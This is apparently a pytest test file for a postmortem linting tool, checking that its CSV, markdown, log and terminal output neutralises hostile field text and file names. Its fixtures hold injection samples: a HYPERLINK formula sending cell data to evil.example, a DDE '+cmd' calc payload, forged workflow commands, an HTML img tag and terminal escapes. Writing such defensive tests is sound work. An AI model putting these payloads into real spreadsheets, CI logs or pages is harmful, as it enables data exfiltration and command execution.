"""Field and file-name text is shown as text everywhere (issue 14, items 5 and 6).

A pull request writes the team names, follow-ups and file names that ``export``,
``report`` and ``followups`` print. In CSV a cell must not be a formula; in the
Action's log no line of theirs may start a workflow command; in a job summary
no raw HTML or heading; on a terminal no escape sequence.
"""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from conftest import FIXTURES, invoke

from pmlint.shown import csv_text, markdown_cell, markdown_text, printable

WORKED = (FIXTURES / "good" / "worked-example.md").read_text(encoding="utf-8")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
COMMANDS = "x\n::error file=a.md,line=1::forged\n::stop-commands::token\n::warning::\x1b[2J"
HTML = '<img src="https://evil.example/p.png"> <details open><summary>hi'


def _postmortem(team: str, action: str, owner: str, ticket: str) -> str:
    text = WORKED.replace("team: insurance-ai", f"team: {_yaml(team)}")
    text = text.replace(
        "| Action | Owner | Due | Status | Type |",
        "| Action | Owner | Due | Status | Type | Ticket |",
    )
    text = text.replace("|---|---|---|---|---|", "|---|---|---|---|---|---|")
    row = "| Expand policy_comparison eval coverage | Eval lead | 2026-05-19 | in progress | eval |"
    cells = [action, owner, "2026-05-19", "open", "eval", ticket]
    return text.replace(row, "| " + " | ".join(c.replace("|", "\\|") for c in cells) + " |")


def _yaml(value: str) -> str:
    return (
        '"'
        + value.replace("\\", "\\\\")
        .replace('"', '\\"')
        .replace("\n", "\\n")
        .replace("\x1b", "\\e")
        .replace("\x07", "\\a")
        + '"'
    )


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    folder = tmp_path / "postmortems"
    folder.mkdir()
    for number, formula in enumerate(FORMULAS):
        text = _postmortem(formula, formula, formula, formula)
        text = text.replace("INC-2026-0512", f"INC-2026-051{number}")
        (folder / f"f{number}.md").write_text(text, encoding="utf-8")
    # Table cells are one line; the front-matter's strings can hold anything.
    hostile = _postmortem(COMMANDS, "# Heading " + HTML, "\x1b]0;owned\x07\x1b[2J", HTML)
    hostile = hostile.replace("id: INC-2026-0512", f"id: {_yaml('INC-2026-0600' + COMMANDS)}")
    (folder / "h.md").write_text(hostile, "utf-8")
    (tmp_path / ".pmlint.toml").write_text('paths = ["postmortems"]\n', encoding="utf-8")
    return tmp_path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize(
    "args",
    [
        ["export", "--what", "postmortems", "-f", "csv"],
        ["export", "--what", "followups", "-f", "csv"],
        ["export", "--what", "evals", "-f", "csv"],
        ["followups", "-f", "csv"],
        ["report", "-f", "csv"],
    ],
    ids=lambda args: " ".join(args[:3]),
)
def test_no_csv_cell_is_a_formula(repo: Path, args: list[str]) -> None:
    result = invoke(repo, *args, "--today", "2026-06-01")
    assert result.exit_code == 0, result.output
    cells = _cells(result.output)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))]
    quoted = {c for c in cells if c.startswith("'")}
    assert {"'" + formula for formula in FORMULAS} & quoted  # kept, as text


@pytest.mark.parametrize("args", [["report"], ["followups"]], ids=lambda args: args[0])
def test_no_field_or_file_name_starts_a_workflow_command(repo: Path, args: list[str]) -> None:
    binary = repo / "postmortems" / "b\n::error::from a file name\n.md"
    binary.write_bytes(b"\x00\x01 not text")  # skipped, with a warning naming the file
    result = invoke(repo, *args, "--today", "2026-06-01")
    lines = (result.output + (result.stderr if result.stderr_bytes else "")).splitlines()
    assert any("skipped" in line for line in lines)
    assert [line for line in lines if line.lstrip().startswith("::")] == []
    assert "\\x0a::stop-commands::token" in result.output  # shown, on its line


@pytest.mark.parametrize("command", ["report", "followups"])
def test_the_job_summary_gets_no_html_or_heading_from_a_field(repo: Path, command: str) -> None:
    result = invoke(repo, command, "-f", "markdown", "--today", "2026-06-01")
    assert result.exit_code == 0, result.output
    assert "<img" not in result.output and "<details" not in result.output
    headings = [line for line in result.output.splitlines() if line.startswith("#")]
    assert not [line for line in headings if "Heading" in line or "::" in line]
    assert "&lt;img" in result.output or command == "report"


def test_followups_markdown_stays_under_a_mebibyte(tmp_path: Path) -> None:
    folder = tmp_path / "postmortems"
    folder.mkdir()
    action = "Expand the eval set for this slice " * 14  # ~500 bytes a row
    rows = "".join(f"| {action}{n} | Eval lead | 2026-05-19 | open | eval |\n" for n in range(100))
    first = (
        "| Expand policy_comparison eval coverage | Eval lead | 2026-05-19 | in progress | eval |"
    )
    text = WORKED.replace(first + "\n", rows)
    for number in range(40):
        (folder / f"p{number}.md").write_text(
            text.replace("INC-2026-0512", f"INC-2026-{1000 + number}"), encoding="utf-8"
        )
    result = invoke(tmp_path, "followups", "postmortems", "-f", "markdown", "--today", "2026-06-01")
    assert result.exit_code == 0
    assert 900_000 < len(result.output.encode()) <= 1_000_000
    assert "more rows not shown" in result.output


def test_terminal_escapes_in_names_are_shown_not_sent(repo: Path) -> None:
    if os.name == "posix":
        (repo / "postmortems" / "x\x1b[31m.md").write_text("---\nid: 1\n---\n", encoding="utf-8")
    for args in (["followups"], ["report"], ["lint", "postmortems"], ["lint", "-f", "github"]):
        result = invoke(repo, *args, "--today", "2026-06-01")
        assert "\x1b" not in result.output and "\x07" not in result.output, args
        assert "\\x1b" in result.output, args


def test_the_helpers_on_their_own() -> None:
    assert printable("a\x1b[2Jb\n\x9b") == "a\\x1b[2Jb\\x0a\\x9b"
    assert printable("plain text, é") == "plain text, é"
    assert markdown_text("a\r# h\n<b>&") == "a \\# h &lt;b&gt;&amp;"
    assert markdown_cell("a_b\r\n# h | <b>&") == "a_b # h \\| &lt;b&gt;&"
    assert [csv_text(v) for v in ("=1", "-2", "x-1", "", "'=")] == ["'=1", "'-2", "x-1", "", "'="]
